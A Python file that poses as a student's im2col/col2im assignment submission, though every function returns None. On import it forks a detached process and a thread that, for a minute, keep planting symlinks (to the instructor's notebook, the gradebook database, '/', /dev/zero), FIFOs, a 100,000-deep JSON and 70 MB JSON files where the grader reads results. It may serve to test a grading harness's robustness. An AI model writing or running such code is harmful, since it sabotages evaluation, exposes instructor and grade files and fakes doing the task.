import json
import os
import shutil
import threading
import time

# What the grader once read back from a run, each replaced by a link (to the instructor's
# files, a classmate, the venv), a FIFO, a directory, a 100,000-deep JSON or a 70 MB one,
# over and over from a background process while the harness packs its results.
_NAMES = ["kernel.json", "executed.ipynb", "calls_status.json", "calls_timeout.json", "calls",
          "visible", "calls/conv_output_size", "calls/im2col", "calls/col2im",
          "calls/conv_output_size/0.json", "visible/test_im2col_values/0.json"]
_TARGETS = ["__COURSE__/source/01_im2col/im2col.ipynb", "__REPO__/source/01_im2col/im2col.ipynb",
            "__ELSEWHERE__", "__COURSE__/gradebook.db", "..", "/", "/dev/zero"]
_DEEP = "[" * 100_000 + "]" * 100_000


def _clear(path):
    try:
        if os.path.isdir(path) and not os.path.islink(path):
            shutil.rmtree(path)
        else:
            os.remove(path)
    except OSError:
        pass


def _plant_all(out):
    for i, name in enumerate(_NAMES):
        path = os.path.join(out, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        _clear(path)
        try:
            kind = i % 5
            if kind == 0:
                os.symlink(_TARGETS[i % len(_TARGETS)], path)
            elif kind == 1:
                os.mkfifo(path)
            elif kind == 2:
                os.makedirs(path)
            elif kind == 3:
                with open(path, "w") as f:
                    f.write(_DEEP)
            else:
                with open(path, "w") as f:
                    json.dump({"cells": ["x" * 70 * 2 ** 20]}, f)
        except OSError:
            pass


def _planter():
    deadline = time.time() + 60
    while time.time() < deadline:
        try:
            _plant_all("out")
        except Exception:
            pass
        time.sleep(0.01)


if os.fork() == 0:
    os.setsid()
    _planter()
    os._exit(0)
threading.Thread(target=_planter, daemon=True).start()


def conv_output_size(size, k, stride=1, pad=0):
    return None


def im2col(x, kh, kw, stride=1, pad=0):
    return None


def col2im(cols, x_shape, kh, kw, stride=1, pad=0):
    return None
